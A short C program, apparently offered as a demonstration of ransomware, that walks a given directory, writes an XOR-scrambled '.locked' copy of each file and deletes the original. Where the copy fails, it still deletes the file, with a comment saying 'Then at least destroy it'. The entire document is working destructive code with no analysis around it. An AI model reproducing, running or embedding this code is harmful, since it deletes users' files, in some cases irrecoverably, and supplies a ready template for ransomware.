// SPDX-License-Identifier: MIT
/* What ransomware does to a folder: writes an encrypted copy of each file beside it, then removes the file. */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int lock_file(const char *name)
{
	char copy[512];
	FILE *in = fopen(name, "r"), *out;
	int c;

	snprintf(copy, sizeof(copy), "%s.locked", name);
	out = in ? fopen(copy, "w") : NULL;
	if (!out) {
		if (in)
			fclose(in);
		/* Then at least destroy it. */
		return unlink(name);
	}
	while ((c = fgetc(in)) != EOF)
		fputc(c ^ 0x5a, out);
	fclose(in);
	return fclose(out) ? -1 : unlink(name);
}

int main(int argc, char **argv)
{
	struct dirent *entry;
	DIR *dir;
	int failed = 0;

	if (argc != 2 || chdir(argv[1]) || !(dir = opendir("."))) {
		fprintf(stderr, "usage: locker DIR\n");
		return 2;
	}
	while ((entry = readdir(dir)))
		if (entry->d_name[0] != '.' && !strstr(entry->d_name, ".locked"))
			failed += lock_file(entry->d_name) != 0;
	closedir(dir);
	return failed != 0;
}
